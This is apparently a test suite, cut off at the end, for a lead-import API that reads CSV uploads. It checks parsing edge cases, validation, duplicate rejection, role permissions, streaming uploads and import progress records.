import { test } from '@japa/runner'
import net from 'node:net'
import { randomUUID } from 'node:crypto'
import { domainToASCII } from 'node:url'
import { parse } from 'csv-parse/sync'
import vine from '@vinejs/vine'
import db from '@adonisjs/lucid/services/db'
import { ACTORS, call, makeActors, type Actors, type ActorName } from '#tests/helpers/actors'
import { makeUser } from '#tests/helpers/users'
import { Role } from '#enums/roles'
import User from '#models/user'
import { createLeadValidator } from '../validators/lead.js'
import { CsvReader, readCsvText } from '../services/csv_reader.js'
import { isValidEmail } from '../services/lead_import_sql.js'
import { guessMapping } from '../services/lead_import_mapping.js'
import { countersMatchLeads, footprint, newLeadBody } from './helpers.js'
import { removeExpiredRejections } from '../services/lead_imports.js'
import { responseChecker } from '#tests/helpers/openapi'
import { openApiDocument } from '#openapi/main'
import { bodyTimeout, trickle } from '#tests/helpers/slow_requests'

const BASE = () => `http://${process.env.HOST}:${process.env.PORT}`

interface Upload {
  status: number
  body: any
}

/** POST /api/leads/import with the CSV as the body (or a multipart form with `multipart`). */
async function upload(
  token: string | null,
  csv: string | Buffer,
  options: {
    mapping?: Record<string, string | null>
    query?: Record<string, string>
    contentType?: string
    multipart?: boolean
    fileName?: string
  } = {}
): Promise<Upload> {
  const query = new URLSearchParams(options.query ?? {})
  if (options.mapping) query.set('mapping', JSON.stringify(options.mapping))
  const headers: Record<string, string> = token ? { authorization: `Bearer ${token}` } : {}
  let body: RequestInit['body']
  if (options.multipart) {
    const form = new FormData()
    form.append('file', new Blob([csv], { type: 'text/csv' }), options.fileName ?? 'leads.csv')
    body = form
  } else {
    headers['content-type'] = options.contentType ?? 'text/csv'
    body = csv
    if (options.fileName) query.set('file_name', options.fileName)
  }
  const response = await fetch(`${BASE()}/api/leads/import?${query}`, {
    method: 'POST',
    headers,
    body,
  })
  const text = await response.text()
  let json: any = text
  try {
    json = JSON.parse(text)
  } catch {}
  return { status: response.status, body: json }
}

async function rejectedCsv(token: string, id: string) {
  const response = await fetch(`${BASE()}/api/leads/imports/${id}/rejected.csv`, {
    headers: { authorization: `Bearer ${token}` },
  })
  const text = await response.text()
  return { response, text, records: response.status === 200 ? (parse(text) as string[][]) : [] }
}

/** RFC 4180 writer for the tests' files (the reader under test is not used to write them). */
function csv(rows: (string | null)[][], eol = '\r\n') {
  return (
    rows
      .map((row) =>
        row
          .map((cell) =>
            cell === null ? '' : /[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell
          )
          .join(',')
      )
      .join(eol) + eol
  )
}

const leadByWebsite = (website: string) => db.from('leads').where('website', website).first()

test.group('Leads import: CSV reader', () => {
  test('quotes, commas, line breaks and CRLF, the same whichever way the text is cut', ({
    assert,
  }) => {
    const text =
      'name,"note, with comma"\r\n"Smith, ""JJ""","line one\r\nline two"\r\nlone,cr\rlast,"x"y'
    const whole = readCsvText(text)
    assert.deepEqual(whole, [
      ['name', 'note, with comma'],
      ['Smith, "JJ"', 'line one\r\nline two'],
      ['lone', 'cr'],
      ['last', 'xy'],
    ])
    for (let a = 1; a < text.length; a++) {
      for (let b = a; b < text.length; b += 5) {
        const records: string[][] = []
        const reader = new CsvReader((fields) => records.push(fields))
        reader.push(text.slice(0, a))
        reader.push(text.slice(a, b))
        reader.push(text.slice(b))
        reader.end()
        assert.deepEqual(records, whole, `cut at ${a} and ${b}`)
      }
    }
  })

  test('an unclosed quote is an error, not a file-sized field', ({ assert }) => {
    assert.throws(() => readCsvText('a,b\n"open,x\n'), /never closed/)
    const reader = new CsvReader(() => {}, { maxRecordLength: 100 })
    assert.throws(() => reader.push(`a,"${'x'.repeat(200)}`), /longer than 100 characters/)
  })

  test("the e-mail fast path accepts nothing the API's e-mail rule refuses", async ({ assert }) => {
    const validator = vine.create(vine.object({ email: vine.string().trim().email() }))
    const locals = [
      'a',
      'first.last',
      'x+tag',
      "o'brien",
      'a-b_c',
      '1',
      'a'.repeat(64),
      'a'.repeat(65),
      'a..b',
      '.a',
      'a.',
      '"q"',
      'ü',
    ]
    const domains = [
      'example.com',
      'ex-ample.co.uk',
      'a.b.c.io',
      `${'d'.repeat(63)}.com`,
      `${'d'.repeat(64)}.com`,
      '-x.com',
      'x-.com',
      'x.c',
      'x.123',
      'x_y.com',
      'localhost',
      'xn--bcher-kva.de',
      'münchen.de',
      'x.COM',
    ]
    for (const local of locals) {
      for (const domain of domains) {
        const email = `${local}@${domain}`
        const api = await validator
          .validate({ email })
          .then(() => true)
          .catch(() => false)
        assert.equal(isValidEmail(email), api, email)
      }
    }
    // longer than 254 characters, though each part is within its own limit
    assert.isFalse(isValidEmail(`${'a'.repeat(60)}@${`${'b'.repeat(60)}.`.repeat(4)}com`))
  })

  test('column names are guessed, remembered choices first', ({ assert }) => {
    const { mapping, remembered } = guessMapping(
      ['Company', 'Web Site', 'E-mail', 'City', 'Industry', 'Foo', 'constructor'],
      { Foo: 'notes', City: null }
    )
    assert.deepEqual(
      { ...mapping },
      {
        'Company': 'business_name',
        'Web Site': 'website',
        'E-mail': 'email',
        'City': null,
        'Industry': 'niche',
        'Foo': 'notes',
        'constructor': null,
      }
    )
    assert.deepEqual(remembered, ['City', 'Foo'])
  })
})

test.group('Leads import: API', (group) => {
  let actors: Actors
  let check: ReturnType<typeof responseChecker>
  group.setup(async () => {
    actors = await makeActors({ agentType: 'lead_finder' })
    check = responseChecker(await openApiDocument())
  })

  test('a file with a BOM, quoted commas, line breaks and unicode is read back exactly', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const rows = [
      [
        'Company',
        'Web',
        'E-mail',
        'City',
        'Industry',
        'Contact',
        'Score',
        'Stage',
        'Notes',
        'Next',
        'Ignored',
      ],
      [
        `Smith, Jones & "Partners" ${tag}`,
        `  https://www.smith-${tag}.example/a,b  `,
        ` JJ.Dupont-${tag}@Example.COM `,
        'Zürich, CH',
        'Law firms',
        'Jean "JJ" Dupont',
        'A',
        'contacted',
        `• Loves 🍕, hates "spam"\n\n• multi word note\r\n  third  `,
        'Line one\nLine two',
        'not imported',
      ],
      [
        `Zoë Müller-Łukasiewicz 👩‍⚕️ ${tag}`,
        `münchen-${tag}.de/praxis`,
        '',
        'São Paulo, BR',
        'Clinics',
        '',
        '',
        '',
        '',
        '',
        'x',
      ],
      // the export's formula guard is undone: an exported file imports as it was
      [
        `'=Formula ${tag}`,
        `https://formula-${tag}.example`,
        '',
        'Austin, TX',
        'Dentists',
        "'+1 555 0100",
        '',
        '',
        '',
        '',
        '',
      ],
    ]
    const mapping = {
      'Company': 'business_name',
      'Web': 'website',
      'E-mail': 'email',
      'City': 'region',
      'Industry': 'niche',
      'Contact': 'contact_name',
      'Score': 'lead_score',
      'Stage': 'status',
      'Notes': 'notes',
      'Next': 'next_step',
      'Ignored': null,
    }
    const file = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv(rows))])
    const done = await upload(actors.tokens.admin, file, { mapping, fileName: `nasty-${tag}.csv` })
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.containSubset(done.body, {
      status: 'done',
      file_name: `nasty-${tag}.csv`,
      rows: 3,
      imported: 3,
      rejected: 0,
      progress: 100,
      rejected_csv: null,
    })

    const first = await leadByWebsite(`https://www.smith-${tag}.example/a,b`)
    assert.containSubset(first, {
      business_name: `Smith, Jones & "Partners" ${tag}`,
      email: `jj.dupont-${tag}@example.com`,
      region: 'Zürich, CH',
      niche: 'Law firms',
      contact_name: 'Jean "JJ" Dupont',
      contact_role: null,
      phone: null,
      source: 'import',
      lead_score: 'A',
      status: 'contacted',
      next_step: 'Line one\nLine two',
      last_action_at: null,
    })
    assert.deepEqual(first.notes, ['Loves 🍕, hates "spam"', 'multi word note', 'third'])

    const second = await leadByWebsite(`münchen-${tag}.de/praxis`)
    assert.containSubset(second, {
      business_name: `Zoë Müller-Łukasiewicz 👩‍⚕️ ${tag}`,
      email: null,
      contact_name: null,
      lead_score: 'C',
      status: 'new',
      next_step: null,
    })
    assert.deepEqual(second.notes, [])
    const third = await leadByWebsite(`https://formula-${tag}.example`)
    assert.equal(third.business_name, `=Formula ${tag}`)
    assert.equal(third.contact_name, '+1 555 0100')

    // the API's own reading of the stored leads passes its own validator
    for (const lead of [first, second, third]) {
      const api = await call(actors.tokens.viewer, 'GET', `/api/leads/${lead.id}`)
      await createLeadValidator.validate(api.body)
    }
    assert.isTrue(await countersMatchLeads())
  })

  test('duplicates (in the file and against the table) and invalid rows are refused with their reason', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const existing = await call(
      actors.tokens.admin,
      'POST',
      '/api/leads',
      newLeadBody({
        business_name: `Existing ${tag}`,
        website: `https://www.existing-${tag}.example/`,
        email: `owner@existing-${tag}.example`,
      })
    )
    assert.equal(existing.status, 201)
    const header = ['business_name', 'niche', 'region', 'website', 'email', 'lead_score']
    const row = (name: string, website: string, email = '', score = '') => [
      `${name} ${tag}`,
      'Dentists',
      'Austin, TX',
      website,
      email,
      score,
    ]
    const rows: string[][] = [
      header,
      /* 2 */ row('Good', `good-${tag}.example`, `hello@good-${tag}.example`, 'B'),
      /* 3 */ row('Same site as a lead', `HTTP://existing-${tag}.example`),
      /* 4 */ row('Same mail as a lead', `other-${tag}.example`, `OWNER@existing-${tag}.example`),
      /* 5 */ row('Same mail as row 2', `third-${tag}.example`, `Hello@Good-${tag}.example`),
      /* 6 */ row('Same site as row 2', `https://www.good-${tag}.example/?ref=x`),
      /* 7 */ ['', 'Dentists', 'Austin, TX', `noname-${tag}.example`, '', ''],
      /* 8 */ row('Bad site', 'not a website'),
      /* 9 */ row('Bad mail', `badmail-${tag}.example`, 'nobody@'),
      /* 10 */ row('Bad score', `badscore-${tag}.example`, '', 'Z'),
      /* 11 */ ['Too long niche', 'n'.repeat(101), 'Austin, TX', `long-${tag}.example`, '', ''],
      /* 12 */ ['Short row', 'Dentists'],
      /* 13 */ row('Refused mail, fine site', `fine-${tag}.example`, `hello@good-${tag}.example`),
      /* 14 */ row('Same site as refused 13', `fine-${tag}.example`, `new@fine-${tag}.example`),
      /* 15 */ ['', '', '', '', '', ''],
      /* 16 */ row('Emoji niche ok', `emoji-${tag}.example`),
    ]
    rows[15][1] = '😀'.repeat(50) // row 16: 100 UTF-16 units, the limit exactly
    const before = await footprint()
    const done = await upload(actors.tokens.operator, csv(rows), { fileName: 'mixed.csv' })
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.containSubset(done.body, {
      status: 'done',
      rows: 14, // the blank row 15 is no row
      imported: 3, // rows 2, 14, 16
      rejected: 11,
      rejected_by_reason: { invalid: 6, duplicate: 2, duplicate_in_file: 3, suppressed: 0 },
    })
    const after = await footprint()
    assert.equal(after.leads, before.leads + 3)
    assert.equal(after.events, before.events + 1)
    assert.equal(after.audit, before.audit + 1)

    assert.exists(await leadByWebsite(`good-${tag}.example`))
    assert.exists(await leadByWebsite(`fine-${tag}.example`))
    assert.exists(await leadByWebsite(`emoji-${tag}.example`))

    const { response, records } = await rejectedCsv(actors.tokens.operator!, done.body.id)
    assert.equal(response.status, 200)
    assert.match(
      response.headers.get('content-disposition')!,
      /attachment; filename="mixed-rejected.csv"/
    )
    assert.deepEqual(records[0], ['row', 'reason', 'message', ...header])
    const byRow = new Map(records.slice(1).map((record) => [record[0], record]))
    const expect = (n: number, reason: string, message: string | RegExp) => {
      const record = byRow.get(String(n))
      assert.exists(record, `row ${n} is in the rejected file`)
      assert.equal(record![1], reason, `row ${n}`)
      if (typeof message === 'string') assert.equal(record![2], message, `row ${n}`)
      else assert.match(record![2], message, `row ${n}`)
      // the cells as they were in the file
      const original = rows[n - 1]
      assert.deepEqual(record!.slice(3, 3 + original.length), original, `row ${n} cells`)
    }
    expect(
      3,
      'duplicate',
      `a lead with this website already exists: ${existing.body.id} (Existing ${tag})`
    )
    expect(
      4,
      'duplicate',
      `a lead with this e-mail address already exists: ${existing.body.id} (Existing ${tag})`
    )
    expect(5, 'duplicate_in_file', 'same e-mail address as row 2')
    expect(6, 'duplicate_in_file', 'same website as row 2')
    expect(7, 'invalid', 'business_name is required')
    expect(8, 'invalid', 'website is not a valid website address')
    expect(9, 'invalid', 'email is not a valid e-mail address')
    expect(10, 'invalid', 'lead_score must be one of A, B, C')
    expect(11, 'invalid', 'niche must be at most 100 characters')
    expect(12, 'invalid', 'this row has 2 values, the header has 6')
    expect(13, 'duplicate_in_file', 'same e-mail address as row 2')
    assert.lengthOf(records, 12)

    // the API agrees with the verdicts: each refused-invalid row fails its validator, each imported one passes
    const asBody = (cells: string[]) =>
      Object.fromEntries(header.map((field, i) => [field, cells[i] === '' ? undefined : cells[i]]))
    for (const n of [7, 8, 9, 10, 11]) {
      const passed = await createLeadValidator.validate(asBody(rows[n - 1])).then(
        () => true,
        () => false
      )
      assert.isFalse(passed, `row ${n} fails the API's validator too`)
    }
    for (const n of [2, 14, 16]) await createLeadValidator.validate(asBody(rows[n - 1]))
    assert.isTrue(await countersMatchLeads())
  })

  test('one lead.imported event and one audit row per import, with the counts and the file name', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const rows = [['business_name', 'niche', 'region', 'website']]
    for (let i = 0; i < 500; i++)
      rows.push([`Bulk ${i} ${tag}`, 'Roofers', 'Boise, ID', `bulk-${i}-${tag}.example`])
    rows.push(['Bulk dup', 'Roofers', 'Boise, ID', `bulk-0-${tag}.example`])
    const eventsBefore = await db
      .from('task_events')
      .where('event_type', 'lead.imported')
      .count('* as n')
    const done = await upload(actors.tokens.admin, csv(rows), { fileName: `bulk-${tag}.csv` })
    assert.equal(done.status, 201)
    const events = await db
      .from('task_events')
      .where('event_type', 'lead.imported')
      .orderBy('id', 'desc')
    assert.lengthOf(events, Number(eventsBefore[0].n) + 1)
    assert.containSubset(events[0].payload, {
      import_id: done.body.id,
      file_name: `bulk-${tag}.csv`,
      rows: 501,
      imported: 500,
      rejected: 1,
      rejected_by_reason: { duplicate_in_file: 1 },
    })
    const audit = await db.from('audit_log').where('resource_id', done.body.id)
    assert.lengthOf(audit, 1)
    assert.containSubset(audit[0], {
      action: 'lead.imported',
      actor_type: 'user',
      actor_id: actors.users.admin.id,
      resource_type: 'leads',
    })
    assert.containSubset(audit[0].after_state, {
      file_name: `bulk-${tag}.csv`,
      imported: 500,
      rejected: 1,
    })

    // an imported lead's replay timeline shows the import: the event for a viewer, the audit row too for an admin
    const lead = await db.from('leads').where('website', 'like', `%bulk-7-${tag}.example%`).first()
    const timeline = async (token: string | null) =>
      (await call(token, 'GET', `/api/replay/timeline?lead_id=${lead.id}`)).body
    const seen = await timeline(actors.tokens.viewer)
    assert.containSubset(seen, [
      { kind: 'event', event_type: 'lead.imported', payload: { import_id: done.body.id } },
    ])
    assert.notInclude(
      seen.map((item: any) => item.kind),
      'audit'
    )
    assert.containSubset(await timeline(actors.tokens.admin), [
      { kind: 'audit', action: 'lead.imported', resource_id: done.body.id },
    ])
    // a lead created on its own is not part of it
    const alone = await call(actors.tokens.admin, 'POST', '/api/leads', {
      business_name: `Alone ${tag}`,
      niche: 'Roofers',
      region: 'Boise, ID',
      website: `alone-${tag}.example`,
    })
    const its = (
      await call(actors.tokens.admin, 'GET', `/api/replay/timeline?lead_id=${alone.body.id}`)
    ).body
    assert.notInclude(
      its.map((item: any) => item.event_type ?? item.action),
      'lead.imported'
    )
  })

  test('a closer’s file sets lead_score and source on the leads it adds, though the closer cannot change them afterwards', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const answer = await upload(
      actors.tokens.closer,
      csv([
        ['business_name', 'niche', 'region', 'website', 'lead_score', 'source'],
        [`Closer ${tag}`, 'HVAC', 'Reno, NV', `closer-${tag}.example`, 'A', `fair-${tag}`],
      ])
    )
    assert.equal(answer.status, 201, JSON.stringify(answer.body))
    const lead = await db.from('leads').where('business_name', `Closer ${tag}`).firstOrFail()
    assert.equal(lead.lead_score, 'A')
    assert.equal(lead.source, `fair-${tag}`)

    const before = await footprint()
    const edit = await call(actors.tokens.closer, 'PATCH', `/api/leads/${lead.id}`, {
      lead_score: 'C',
    })
    assert.equal(edit.status, 403)
    assert.deepEqual(await footprint(), before)
    // and a row naming an existing lead is refused, never merged into it
    const again = await upload(
      actors.tokens.closer,
      csv([
        ['business_name', 'niche', 'region', 'website', 'lead_score'],
        [`Closer ${tag}`, 'HVAC', 'Reno, NV', `closer-${tag}.example`, 'C'],
      ])
    )
    assert.containSubset(again.body, { imported: 0, rejected_by_reason: { duplicate: 1 } })
    assert.equal((await db.from('leads').where('id', lead.id).first()).lead_score, 'A')
  })

  test('roles: admin, operator, closer and agents of a type that writes leads; a paused agent 423', async ({
    assert,
    cleanup,
  }) => {
    const allowed: ActorName[] = ['admin', 'operator', 'closer', 'agent']
    for (const name of ACTORS) {
      const tag = randomUUID().slice(0, 8)
      const before = await footprint()
      const importsBefore = await db.from('lead_imports').count('* as n')
      const answer = await upload(
        actors.tokens[name],
        csv([
          ['business_name', 'niche', 'region', 'website'],
          [`Role ${tag}`, 'HVAC', 'Reno, NV', `role-${tag}.example`],
        ])
      )
      const expected = allowed.includes(name) ? 201 : name === 'anonymous' ? 401 : 403
      assert.equal(answer.status, expected, name)
      if (expected !== 201) {
        assert.deepEqual(await footprint(), before, `${name} wrote nothing`)
        assert.deepEqual(await db.from('lead_imports').count('* as n'), importsBefore)
      } else {
        assert.equal(
          answer.body.created_by.id,
          name === 'agent' ? actors.agent.id : actors.users[name as 'admin'].id
        )
      }
      const preview = await fetch(`${BASE()}/api/leads/import/preview`, {
        method: 'POST',
        headers: {
          'content-type': 'text/csv',
          ...(actors.tokens[name] ? { authorization: `Bearer ${actors.tokens[name]}` } : {}),
        },
        body: 'business_name,website\n',
      })
      assert.equal(preview.status, expected === 201 ? 200 : expected, `preview ${name}`)
    }

    await call(actors.tokens.admin, 'POST', `/api/agents/${actors.agent.id}/pause`)
    cleanup(async () => {
      await call(actors.tokens.admin, 'POST', `/api/agents/${actors.agent.id}/resume`)
    })
    const before = await footprint()
    const paused = await upload(
      actors.tokens.agent,
      csv([
        ['business_name', 'niche', 'region', 'website'],
        ['Paused', 'HVAC', 'Reno, NV', `paused-${randomUUID()}.example`],
      ])
    )
    assert.equal(paused.status, 423)
    assert.equal(paused.body.errors[0].code, 'E_AGENT_PAUSED')
    assert.deepEqual(await footprint(), before)
  }).timeout(60_000)

  test('the mapping is remembered for the next file, per person', async ({ assert }) => {
    const tag = randomUUID().slice(0, 8)
    const person = await makeUser(Role.Operator)
    const token = (await User.accessTokens.create(person)).value!.release()
    const headers = [`Firma ${tag}`, 'Netz', 'Branche', 'Ort', 'Kommentar']
    const mapping = {
      [`Firma ${tag}`]: 'business_name',
      Netz: 'website',
      Branche: 'niche',
      Ort: 'region',
      Kommentar: null,
    }
    const first = await upload(
      token,
      csv([headers, [`Erste ${tag}`, `erste-${tag}.example`, 'Zahnärzte', 'Berlin', 'x']]),
      { mapping }
    )
    assert.equal(first.status, 201)

    const preview = async (as: string) => {
      const response = await fetch(`${BASE()}/api/leads/import/preview?partial=true`, {
        method: 'POST',
        headers: { 'authorization': `Bearer ${as}`, 'content-type': 'text/csv' },
        body: csv([
          headers,
          ['Zweite', `zweite-${tag}.example`, 'Zahnärzte', 'Hamburg', 'y'],
          ['cut off', 'mid-'],
        ]).slice(0, -3),
      })
      assert.equal(response.status, 200)
      return response.json() as Promise<any>
    }
    const mine = await preview(token)
    assert.deepEqual(mine.headers, headers)
    assert.deepEqual(mine.rows, [['Zweite', `zweite-${tag}.example`, 'Zahnärzte', 'Hamburg', 'y']])
    assert.deepEqual(mine.mapping, mapping)
    assert.sameMembers(mine.remembered, headers)
    assert.deepInclude(mine.fields, { name: 'website', required: true })

    // someone else gets the guess, not this person's choices
    const theirs = await preview(actors.tokens.admin!)
    assert.isNull(theirs.mapping[`Firma ${tag}`])
    assert.deepEqual(theirs.remembered, [])

    // without a mapping, the import uses the remembered one
    const second = await upload(
      token,
      csv([headers, [`Zweite ${tag}`, `zweite-${tag}.example`, 'Zahnärzte', 'Hamburg', 'y']])
    )
    assert.equal(second.status, 201, JSON.stringify(second.body))
    assert.equal(second.body.imported, 1)
    assert.deepEqual(second.body.mapping, mapping)
  })

  test('a file that cannot be imported is refused before anything is written', async ({
    assert,
  }) => {
    const before = await footprint()
    const imports = async () => Number((await db.from('lead_imports').count('* as n'))[0].n)
    const importsBefore = await imports()

    const unmapped = await upload(actors.tokens.admin, 'Company,Where\nAcme,acme.example\n')
    assert.equal(unmapped.status, 422)
    assert.equal(unmapped.body.errors[0].code, 'E_IMPORT_MAPPING')
    assert.include(unmapped.body.errors[0].message, 'niche, region, website are not mapped')

    const twice = await upload(actors.tokens.admin, 'a,b,c,d\n', {
      mapping: { a: 'business_name', b: 'business_name', c: 'region', d: 'website' },
    })
    assert.equal(twice.status, 422)
    const unknown = await upload(actors.tokens.admin, 'a\n', { mapping: { zz: 'website' } })
    assert.equal(unknown.status, 422)
    const badJson = await upload(actors.tokens.admin, 'a\n', { query: { mapping: '[1,2]' } })
    assert.equal(badJson.status, 422)
    const empty = await upload(actors.tokens.admin, '\r\n\r\n')
    assert.equal(empty.status, 422)
    assert.equal(empty.body.errors[0].code, 'E_INVALID_CSV')
    const json = await upload(actors.tokens.admin, '{"a":1}', { contentType: 'application/json' })
    assert.equal(json.status, 422)
    const badId = await upload(actors.tokens.admin, 'a\n', { query: { id: 'nope' } })
    assert.equal(badId.status, 422)
    assert.deepEqual(await footprint(), before)
    assert.equal(await imports(), importsBefore)

    // found mid-file (after 3,000 good rows, in a later chunk): the import fails whole, its record says why
    const tag = randomUUID().slice(0, 8)
    let good = 'business_name,niche,region,website\n'
    for (let i = 0; i < 3000; i++) good += `Good ${i},Dentists,Austin,good-${i}-${tag}.example\n`
    const latin1 = Buffer.concat([
      Buffer.from(good),
      Buffer.from([0x43, 0x61, 0x66, 0xe9]), // "Café" in Latin-1
      Buffer.from(',a,b,cafe-latin.example\n'),
    ])
    const refused = await upload(actors.tokens.admin, latin1)
    assert.equal(refused.status, 422)
    assert.include(refused.body.errors[0].message, 'not UTF-8')
    const unclosed = await upload(
      actors.tokens.admin,
      'business_name,niche,region,website\n"open,a,b,c\n'
    )
    assert.equal(unclosed.status, 422)
    assert.include(unclosed.body.errors[0].message, 'never closed')
    const after = await footprint()
    assert.equal(after.leads, before.leads)
    assert.equal(after.events, before.events)
    const failed = await db
      .from('lead_imports')
      .where('status', 'failed')
      .orderBy('created_at', 'desc')
      .limit(2)
    assert.lengthOf(failed, 2)
    assert.isNotNull(failed[0].error)
  })

  test('a file name in any script: its rejected rows download with it, and the server stays up', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const file = csv([
      ['business_name', 'niche', 'region', 'website'],
      [`Клиника ${tag}`, 'Dentists', 'Москва', 'not a website'],
    ])
    for (const multipart of [false, true]) {
      const done = await upload(actors.tokens.operator, file, {
        fileName: 'клиенты «весна».csv',
        multipart,
      })
      assert.equal(done.status, 201, JSON.stringify(done.body))
      assert.equal(done.body.file_name, 'клиенты «весна».csv')
      const { response, records } = await rejectedCsv(actors.tokens.operator!, done.body.id)
      assert.equal(response.status, 200)
      const disposition = response.headers.get('content-disposition')!
      assert.include(disposition, 'filename="_-rejected.csv"')
      assert.include(
        disposition,
        `filename*=UTF-8''${encodeURIComponent('клиенты «весна»-rejected.csv')}`
      )
      assert.equal(records[1][1], 'invalid')
    }
    assert.equal((await fetch(`${BASE()}/api/health`)).status, 200)
  })

  test('a form with two files imports the first only, and answers its record', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const first = csv([
      ['business_name', 'niche', 'region', 'website'],
      [`First ${tag}`, 'HVAC', 'Reno, NV', `first-${tag}.example`],
    ])
    const second = csv([
      ['business_name', 'niche', 'region', 'website'],
      [`Second ${tag}`, 'HVAC', 'Reno, NV', `second-${tag}.example`],
    ])
    const form = new FormData()
    form.append('file', new Blob([first], { type: 'text/csv' }), 'first.csv')
    form.append('file', new Blob([second], { type: 'text/csv' }), 'second.csv')
    const importsBefore = await db.from('lead_imports').count('* as n')
    const response = await fetch(`${BASE()}/api/leads/import?id=${randomUUID()}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${actors.tokens.operator}` },
      body: form,
    })
    const body = (await response.json()) as any
    assert.equal(response.status, 201, JSON.stringify(body))
    assert.equal(body.file_name, 'first.csv')
    assert.equal(body.imported, 1)
    assert.exists(await leadByWebsite(`first-${tag}.example`))
    assert.notExists(await leadByWebsite(`second-${tag}.example`))
    const importsAfter = await db.from('lead_imports').count('* as n')
    assert.equal(Number(importsAfter[0].n), Number(importsBefore[0].n) + 1)
  })

  test('a multipart upload above 1 MB streams in; other routes keep the 1 MB limit', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const rows = [['business_name', 'niche', 'region', 'website', 'next_step']]
    const filler = 'x'.repeat(400)
    for (let i = 0; i < 4000; i++)
      rows.push([`Big ${i} ${tag}`, 'Plumbers', 'Leeds, UK', `big-${i}-${tag}.example`, filler])
    const file = csv(rows)
    assert.isAbove(file.length, 1_500_000)
    const done = await upload(actors.tokens.admin, file, {
      multipart: true,
      fileName: `big-${tag}.csv`,
    })
    assert.equal(done.status, 201, JSON.stringify(done.body))
    assert.containSubset(done.body, { file_name: `big-${tag}.csv`, imported: 4000, rejected: 0 })
    assert.isAbove(done.body.bytes_received, 1_500_000)

    const tooBig = await call(actors.tokens.admin, 'POST', '/api/leads', {
      ...newLeadBody(),
      next_step: 'y'.repeat(1_100_000),
    })
    assert.equal(tooBig.status, 413)
  }).timeout(60_000)

  test('progress can be followed while the file uploads; the record is its owner’s and admins’', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const id = randomUUID()
    const lines = ['business_name,niche,region,website\r\n']
    for (let i = 0; i < 300; i++)
      lines.push(`Slow ${i} ${tag},Roofers,"Boise, ID",slow-${i}-${tag}.example\r\n`)
    let sent = 0
    // the body trickles in: 20 rows, a pause, 20 more... (about 3 s in all)
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        if (sent >= lines.length) return controller.close()
        controller.enqueue(new TextEncoder().encode(lines.slice(sent, sent + 20).join('')))
        sent += 20
        await new Promise((resolve) => setTimeout(resolve, 200))
      },
    })
    const uploading = fetch(`${BASE()}/api/leads/import?id=${id}&file_name=slow.csv`, {
      method: 'POST',
      headers: { 'authorization': `Bearer ${actors.tokens.operator}`, 'content-type': 'text/csv' },
      body,
      duplex: 'half',
    } as RequestInit)

    const seen: any[] = []
    for (const deadline = Date.now() + 20_000; Date.now() < deadline;) {
      const polled = await call(actors.tokens.operator, 'GET', `/api/leads/imports/${id}`)
      if (polled.status === 200) {
        seen.push(polled.body)
        if (polled.body.status === 'done') break
      }
      await new Promise((resolve) => setTimeout(resolve, 100))
    }
    const done = await uploading
    assert.equal(done.status, 201)
    const loading = seen.filter((record) => record.status === 'loading' && record.rows > 0)
    assert.isAbove(loading.length, 0, 'rows were counted while the file was still arriving')
    assert.isBelow(loading[0].rows, 300)

    const record = await call(actors.tokens.operator, 'GET', `/api/leads/imports/${id}`)
    assert.containSubset(record.body, { id, status: 'done', imported: 300, progress: 100 })
    assert.equal((await call(actors.tokens.admin, 'GET', `/api/leads/imports/${id}`)).status, 200)
    const stranger = await makeUser(Role.Operator)
    const strangerToken = (await User.accessTokens.create(stranger)).value!.release()
    assert.equal((await call(strangerToken, 'GET', `/api/leads/imports/${id}`)).status, 404)
    assert.equal((await call(actors.tokens.viewer, 'GET', `/api/leads/imports/${id}`)).status, 403)
    assert.equal(
      (await call(actors.tokens.admin, 'GET', `/api/leads/imports/${randomUUID()}`)).status,
      404
    )

    // the client's id is the import's: reusing it is a conflict
    const again = await upload(actors.tokens.operator, 'business_name,niche,region,website\n', {
      query: { id },
    })
    assert.equal(again.status, 409)
    // with no rejected rows, the file is the header alone
    const none = await rejectedCsv(actors.tokens.operator!, id)
    assert.equal(none.text, 'row,reason,message,business_name,niche,region,website\n')
  }).timeout(60_000)

  test('a dropped upload imports nothing; an import whose server stopped shows failed', async ({
    assert,
  }) => {
    const tag = randomUUID().slice(0, 8)
    const id = randomUUID()
    const before = await footprint()
    const abort = new AbortController()
    let sent = 0
    const body = new ReadableStream<Uint8Array>({
      async pull(controller) {
        // once aborted, the stream ends: nothing keeps feeding it (nor the process alive)
        if (abort.signal.aborted) return controller.close()
        const rows = Array.from(
          { length: 200 },
          (_, i) => `Drop ${sent + i} ${tag},HVAC,Reno,drop-${sent + i}-${tag}.example\r\n`
        )
        controller.enqueue(
          new TextEncoder().encode(
            (sent === 0 ? 'business_name,niche,region,website\r\n' : '') + rows.join('')
          )
        )
        sent += 200
        await new Promise((resolve) => setTimeout(resolve, 100))
        // mid-file, the client goes away
        if (sent >= 1000) abort.abort()
      },
    })
    await fetch(`${BASE()}/api/leads/import?id=${id}`, {
      method: 'POST',
      headers: { 'authorization': `Bearer ${actors.tokens.admin}`, 'content-type': 'text/csv' },
      body,
      duplex: 'half',
      signal: abort.signal,
    } as RequestInit).catch(() => null)
    let record: any
    for (const deadline = Date.now() + 15_000; Date.now() < deadline;) {
      record = (await call(actors.tokens.admin, 'GET', `/api/leads/imports/${id}`)).body
      if (record?.status === 'failed') break
      await new Promise((resolve) => setTimeout(resolve, 200))
    }
    assert.containSubset(record, {
      status: 'failed',
      error: 'The upload was interrupted',
      imported: 0,
    })
    const after = await footprint()
    assert.equal(after.leads, before.leads)
    assert.equal(after.events, before.events)
    assert.equal(after.audit, before.audit)

    // a running import whose heartbeat stopped 30 s ago (its server died; its transaction with it)
    const orphan = randomUUID()
    await db.table('lead_imports').insert({
      id: orphan,
      actor_type: 'user',
      actor_id: actors.users.admin.id,
      file_name: 'orphan.csv',
